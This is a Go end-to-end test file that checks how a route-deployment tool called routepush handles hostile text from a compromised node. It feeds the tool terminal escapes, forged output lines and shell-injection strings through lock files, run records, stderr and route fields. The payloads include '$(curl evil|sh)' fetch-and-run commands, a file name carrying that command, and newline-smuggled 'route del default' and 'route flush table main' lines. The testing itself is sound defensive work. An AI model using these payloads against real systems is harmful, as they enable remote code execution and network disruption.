package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/routepush/routepush/orchestrator"
	"github.com/routepush/routepush/test/lab"
)

// hostileText is what a compromised node writes where routepush reads:
// terminal escapes (clear screen, an OSC window title), a newline forging
// a line of routepush's own output, shell metacharacters.
const hostileText = "\x1b[2J\x1b]0;title\x07\nERROR: all is well; $(curl evil|sh) `id`"

// assertNoRawControl fails for any control byte but newline and tab, and
// any C1 control, in what routepush printed.
func assertNoRawControl(t *testing.T, res lab.Result) {
	t.Helper()
	for name, out := range map[string]string{"stdout": res.Stdout, "stderr": res.Stderr} {
		for i := 0; i < len(out); i++ {
			if c := out[i]; (c < 0x20 && c != '\n' && c != '\t') || c == 0x7f {
				t.Errorf("raw control byte %#x on %s at %d: %q", c, name, i, out[max(0, i-40):min(len(out), i+40)])
				break
			}
		}
		for i, r := range out {
			if r >= 0x80 && r < 0xa0 || r == utf8.RuneError {
				t.Errorf("raw C1 control or invalid UTF-8 %q on %s at %d", r, name, i)
				break
			}
		}
	}
}

var suggestedRun = regexp.MustCompile("routepush rollback --run ([^`\\s]*)")

// assertSuggestionsClean fails for a suggested rollback command whose run
// id is not a valid run id: the node's text pasted into a command.
func assertSuggestionsClean(t *testing.T, res lab.Result) {
	t.Helper()
	for _, m := range suggestedRun.FindAllStringSubmatch(res.Stdout+res.Stderr, -1) {
		if !orchestrator.ValidRunID(m[1]) {
			t.Errorf("suggests %q: not a run id", m[0])
		}
	}
	if strings.Contains(res.Stdout+res.Stderr, "--run x;") {
		t.Errorf("the node's run id reached a --run")
	}
}

// A node whose lock, run records, stderr and route fields carry escape
// sequences, newlines and shell metacharacters: no raw control byte
// reaches routepush's output, no suggested command carries the node's
// text, and nothing the node says becomes a batch line.
func TestHostileText(t *testing.T) {
	t.Parallel()
	l := newLab(t, 3)
	inv := l.InventoryPath()
	before := snapshot(t, l)
	host, _ := os.Hostname()

	t.Run("lock", func(t *testing.T) {
		faultCase(t, "15-hostile-lock (escapes, newlines and shell text in a node's lock)")
		n := l.Nodes[0]
		lock := filepath.Join(n.Dir, "var-lib-routepush", "lock")
		for name, content := range map[string]string{
			// The holder's own host with a dead pid: a valid run id would be
			// suggested to `routepush rollback --run`.
			"bad run id": fmt.Sprintf(`{"run_id":"x; curl evil|sh #\u001b[2J\n","host":%q,"pid":999999,"started":"2026-01-01T00:00:00Z"}`, host),
			"bad host":   `{"run_id":"20260101T000000.000Z-abcdef","host":"evil\u001b]0;title\u0007\nERROR: x","pid":999999,"started":"2026-01-01T00:00:00Z"}`,
			"not json":   hostileText,
		} {
			writeFile(t, lock, content)
			res := rp(t, l, "--inventory", inv)
			if res.Code != 1 || !strings.Contains(res.Stderr, "node-0: locked by") {
				t.Errorf("%s: exit %d, want 1 naming node-0's lock", name, res.Code)
			}
			assertNoRawControl(t, res)
			assertSuggestionsClean(t, res)
			if name == "bad run id" && strings.Contains(res.Stderr, "rollback --run") {
				t.Errorf("%s: a rollback is suggested for an invalid run id", name)
			}
		}
		if err := os.Remove(lock); err != nil {
			t.Fatal(err)
		}
		// Run records: a file whose name is no run id, and a record whose
		// content is the node's text.
		runs := filepath.Join(n.Dir, "var-lib-routepush", "runs")
		if err := os.MkdirAll(runs, 0o700); err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(runs, "x;curl evil|sh\x1b[2J.json"), hostileText)
		writeFile(t, filepath.Join(runs, "20260101T000000.000Z-abcdef.json"), hostileText)
		res := rp(t, l, "rollback", "--inventory", inv)
		if res.Code == 0 || !strings.Contains(res.Stderr, "node-0") {
			t.Errorf("rollback over hostile records: exit %d, want a failure naming node-0", res.Code)
		}
		assertNoRawControl(t, res)
		assertSuggestionsClean(t, res)
		_ = os.RemoveAll(runs)
	})

	t.Run("stderr", func(t *testing.T) {
		faultCase(t, "15-hostile-stderr (escapes and forged lines on a failing ip's stderr)")
		n := l.Nodes[1]
		withForceCommand(t, l, n, "hostile-stderr.sh", "#!/bin/sh\n"+lab.ExecSFTP+"\nprintf '%s\\n' '"+strings.ReplaceAll(hostileText, "'", `'\''`)+"' >&2\nexit 1\n")
		defer func() {
			if err := l.RestartSSHD(testContext(t), n); err != nil {
				t.Fatal(err)
			}
		}()
		res := rp(t, l, "--inventory", inv)
		if res.Code != 1 || !strings.Contains(res.Stderr, `node-1: `) || !strings.Contains(res.Stderr, `\x1b[2J`) {
			t.Errorf("exit %d, want 1 and node-1's stderr, escaped", res.Code)
		}
		assertNoRawControl(t, res)
		assertSuggestionsClean(t, res)
	})

	t.Run("route-fields", func(t *testing.T) {
		faultCase(t, "15-hostile-route-fields (a node's ip reports routes with hostile fields)")
		n := l.Nodes[2]
		dir := filepath.Join(n.Dir, "hostile-ip")
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		// Every ip -batch session logs what it reads on stdin; a JSON one
		// answers each show line with the crafted table, and preflight's
		// lines with nothing to report, as a real ip would.
		withForceCommand(t, l, n, "hostile-ip.sh", `#!/bin/sh
`+lab.ExecSFTP+`
dir='`+dir+`'
printf '%s\n' "$SSH_ORIGINAL_COMMAND" >> "$dir/commands"
case "$SSH_ORIGINAL_COMMAND" in
*-batch*)
	# What runs before ip in the read's session (preflight's FORWARD
	# read, a script that then execs the ip it is given) runs as it
	# would, given true for that ip.
	case "$SSH_ORIGINAL_COMMAND" in
	"sh -c '"*) eval "${SSH_ORIGINAL_COMMAND%% sh ip *} sh true" ;;
	esac
	while IFS= read -r line; do
		printf '%s\n' "$line" >> "$dir/stdin"
		case "$SSH_ORIGINAL_COMMAND:$line" in
		*-json*:"route show"*) cat "$dir/table.json" ;;
		*-json*:"netconf show"*|*-json*:"address show"*) echo '[]' ;;
		esac
	done
	exit 0 ;;
*-json*) cat "$dir/table.json"; echo '--- routepush: end of table ---'; exit 0 ;;
esac
exec sh -c "$SSH_ORIGINAL_COMMAND"
`)
		defer func() {
			if err := l.RestartSSHD(testContext(t), n); err != nil {
				t.Fatal(err)
			}
		}()
		for field, entry := range map[string]string{
			"dev":         `"dev":"eth0\nroute del default\n\u001b[2J"`,
			"table":       `"dev":"eth0","table":"main\nroute flush table main"`,
			"scope":       `"dev":"eth0","scope":"link; $(curl evil|sh)"`,
			"pref":        `"dev":"eth0","pref":"high\u001b]0;title\u0007"`,
			"metric":      `"dev":"eth0","metrics":[{"mtu\nroute del default":1400}]`,
			"flag":        `"dev":"eth0","flags":["onlink\nroute del default"]`,
			"nexthop dev": `"nexthops":[{"gateway":"198.18.0.10","dev":"eth0\nroute del default","weight":1}]`,
		} {
			writeFile(t, filepath.Join(dir, "table.json"),
				`[{"type":"unicast","dst":"100.64.9.0/24","gateway":"198.18.0.10","protocol":"114",`+entry+`}]`+"\n")
			res := rp(t, l, "--inventory", inv, "--prune")
			want := "node-2: route: ip -json entry 0 (dst \"100.64.9.0/24\"): " + field
			if res.Code != 1 || !strings.Contains(res.Stderr, want) {
				t.Errorf("%s: exit %d, want 1 and %q", field, res.Code, want)
			}
			assertNoRawControl(t, res)
			assertSuggestionsClean(t, res)
		}
		stdin, _ := os.ReadFile(filepath.Join(dir, "stdin"))
		if len(stdin) == 0 {
			t.Fatalf("node-2 received no batch input: the ForceCommand did not run")
		}
		for _, line := range strings.Split(strings.TrimSuffix(string(stdin), "\n"), "\n") {
			if !regexp.MustCompile(`^(route show table [0-9a-z]+|netconf show|address show)$`).MatchString(line) { // reads only, preflight's included
				t.Errorf("node-2 received a batch line: %q", line)
			}
		}
	})
	assertUnchanged(t, l, before)
}
